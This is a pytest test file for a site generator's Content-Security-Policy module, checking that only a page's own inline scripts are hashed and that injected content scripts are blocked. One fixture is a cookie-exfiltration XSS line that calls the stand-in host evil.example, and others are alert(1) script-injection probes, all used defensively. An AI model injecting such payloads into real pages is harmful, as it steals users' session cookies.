"""sitegen/csp.py: the policy of a page, the hashes of its own inline scripts, and nothing for its content."""

from __future__ import annotations

import base64
import hashlib
import re
from pathlib import Path

import pytest
import yaml

from conftest import PROJECT_ROOT
from sitegen.csp import inline_scripts, policy, script_hash, with_policy

THEME_SCRIPT = '__md_scope=new URL("..",location),__md_get=(e,_=localStorage)=>JSON.parse(_.getItem(e))'
CONTENT = (
    '<h1 id="open-dag">Open dag</h1>\n<div class="ib-body"><p>Kom kijken.</p></div>\n'
    '<script type="application/ld+json">{"@type": "Event", "name": "Open dag"}</script>'
)


def sha256(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode("utf-8")).digest()).decode("ascii") + "'"


def page(content: str = CONTENT, *, head_extra: str = "", body_extra: str = "") -> str:
    return (
        '<!doctype html>\n<html lang="nl">\n  <head>\n    <meta charset="utf-8">\n'
        '    <meta name="viewport" content="width=device-width">\n'
        f"    <title>Open dag</title>\n    <script>{THEME_SCRIPT}</script>\n{head_extra}  </head>\n"
        f'  <body>\n    <article class="md-content__inner">{content}</article>\n'
        '    <script id="__config" type="application/json">{"base": ".."}</script>\n'
        '    <script src="../assets/javascripts/bundle.js"></script>\n'
        f"{body_extra}  </body>\n</html>\n"
    )


def directives(html: str) -> dict[str, list[str]]:
    metas = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', html)
    assert len(metas) == 1, metas
    return {name: sources for name, *sources in (part.split() for part in metas[0].split(";"))}


def test_the_hash_is_base64_of_sha256_of_the_exact_script_text():
    assert script_hash(THEME_SCRIPT) == sha256(THEME_SCRIPT)
    assert script_hash("  let x = 'é';\n") == sha256("  let x = 'é';\n"), "whitespace and UTF-8 count as they are"
    # The HTML parser turns CR LF and CR into LF before the browser hashes the text.
    assert script_hash("a();\r\nb();\rc();") == sha256("a();\nb();\nc();")


def test_the_page_s_own_inline_scripts_are_hashed_and_nothing_else():
    html = with_policy(page(), CONTENT)
    assert directives(html)["script-src"] == ["'self'", sha256(THEME_SCRIPT)]


def test_the_policy_is_the_whole_policy():
    assert directives(with_policy(page(), CONTENT)) == {
        "default-src": ["'self'"],
        "script-src": ["'self'", sha256(THEME_SCRIPT)],
        "style-src": ["'self'", "'unsafe-inline'"],
        "img-src": ["'self'", "data:"],
        "font-src": ["'self'"],
        "connect-src": ["'self'"],
        "worker-src": ["'self'"],
        "object-src": ["'none'"],
        "frame-src": ["'none'"],
        "base-uri": ["'self'"],
        "form-action": ["'self'"],
    }
    assert "unsafe-eval" not in policy([])
    assert policy([], connect=["https://api.github.com"], images=["blob:"], eval_scripts=True) == (
        "default-src 'self'; script-src 'self' 'unsafe-eval'; style-src 'self' 'unsafe-inline'; "
        "img-src 'self' data: blob:; font-src 'self'; connect-src 'self' https://api.github.com; "
        "worker-src 'self'; object-src 'none'; frame-src 'none'; base-uri 'self'; form-action 'self'"
    )


def test_the_meta_comes_right_after_meta_charset_before_any_script():
    html = with_policy(page(), CONTENT)
    assert '<meta charset="utf-8"><meta http-equiv="Content-Security-Policy"' in html
    head = html[: html.index("</head>")]
    assert head.index("Content-Security-Policy") < head.index("<script")
    assert html.count("Content-Security-Policy") == 1


def test_without_meta_charset_the_meta_is_the_first_thing_in_head():
    html = with_policy("<html><head><script>go()</script></head><body></body></html>", "")
    assert html.startswith('<html><head><meta http-equiv="Content-Security-Policy" content="')
    assert directives(html)["script-src"] == ["'self'", sha256("go()")]


def test_a_meta_charset_after_other_elements_does_not_let_them_go_first():
    html = with_policy('<html><head><script>go()</script><meta charset="utf-8"></head></html>', "")
    assert html.index("Content-Security-Policy") < html.index("<script>go()")


def test_an_injected_script_in_the_content_is_not_hashed_so_it_is_blocked():
    hostile = '<p>Hallo</p><script>fetch("https://evil.example/?c=" + document.cookie)</script>'
    html = with_policy(page(hostile), hostile)
    sources = directives(html)["script-src"]
    assert sha256('fetch("https://evil.example/?c=" + document.cookie)') not in sources
    assert sources == ["'self'", sha256(THEME_SCRIPT)]
    assert "'unsafe-inline'" not in sources


@pytest.mark.parametrize(
    "hostile",
    [
        "<SCRIPT>alert(1)</SCRIPT >",
        '<script type="module">alert(1)</script>',
        '<script type="text/javascript" data-x=">">alert(1)</script>',
        "<script>alert(1)",  # unclosed: the browser runs it up to the next </script>, which lies outside
    ],
)
def test_no_form_of_script_in_the_content_is_hashed(hostile: str):
    html = with_policy(page(hostile), hostile)
    assert directives(html)["script-src"] == ["'self'", sha256(THEME_SCRIPT)]


def test_json_and_json_ld_are_data_not_scripts():
    html = with_policy(
        page(head_extra='<script type="application/ld+json">{"@type": "Event"}</script>\n'), CONTENT
    )
    assert directives(html)["script-src"] == ["'self'", sha256(THEME_SCRIPT)]
    assert [script.text for script in inline_scripts(html)] == [THEME_SCRIPT]


def test_script_types_that_run_are_hashed_and_others_not():
    extra = (
        '<script type="module">m()</script>\n<script type="text/javascript">t()</script>\n'
        '<script type=" Text/JavaScript ">u()</script>\n<script type="text/plain">p()</script>\n'
        "<!-- <script>commented()</script> -->\n<script src=x.js>ignored()</script>\n"
    )
    html = with_policy(page(body_extra=extra), CONTENT)
    expected = sorted([sha256(THEME_SCRIPT), sha256("m()"), sha256("t()"), sha256("u()")])
    assert directives(html)["script-src"] == ["'self'", *expected]


def test_the_same_page_gives_the_same_meta_and_each_hash_once():
    extra = f"<script>{THEME_SCRIPT}</script>\n<script>b()</script>\n"
    first, second = with_policy(page(body_extra=extra), CONTENT), with_policy(page(body_extra=extra), CONTENT)
    assert first == second
    assert directives(first)["script-src"] == ["'self'", *sorted([sha256(THEME_SCRIPT), sha256("b()")])]


def test_a_page_that_cannot_be_guarded_is_an_error():
    with pytest.raises(ValueError, match="no <head>"):
        with_policy("<p>no head</p>", "")
    with pytest.raises(ValueError, match="already has"):
        with_policy(with_policy(page(), CONTENT), CONTENT)
    with pytest.raises(ValueError, match="does not occur"):
        with_policy(page(), "<p>not in the page</p>")


@pytest.mark.build
def test_every_html_page_of_the_built_site_has_one_policy_before_its_scripts(built_site: Path):
    pages = sorted(built_site.rglob("*.html"))
    assert len(pages) > 100 and built_site / "404.html" in pages and built_site / "admin" / "index.html" in pages
    for path in pages:
        html = path.read_text(encoding="utf-8")
        found = directives(html)
        head = html[: html.index("</head>")]
        assert "<script" not in head or head.index("Content-Security-Policy") < head.index("<script"), path
        assert "'unsafe-inline'" not in found["script-src"], path
        hashed = [source for source in found["script-src"] if source.startswith("'sha256-")]
        scripts = list(inline_scripts(html))
        assert set(hashed) <= {sha256(script.text) for script in scripts}, path
        # What is not allowed is a script in the page's content (Material's <article>), nothing of the theme's.
        article = range(html.find("<article"), html.rfind("</article>"))
        for script in scripts:
            assert sha256(script.text) in hashed or (script.start in article and article.start >= 0), (path, script)


def test_instant_navigation_stays_off():
    """With Material's navigation.instant every page would run under the first page's policy, whose hashes are its
    own (the __md_scope script names the folder depth): re-think the policy before turning it on."""
    config = yaml.load((PROJECT_ROOT / "mkdocs.yml").read_text(encoding="utf-8"), Loader=yaml.BaseLoader)
    assert "navigation.instant" not in config["theme"]["features"]
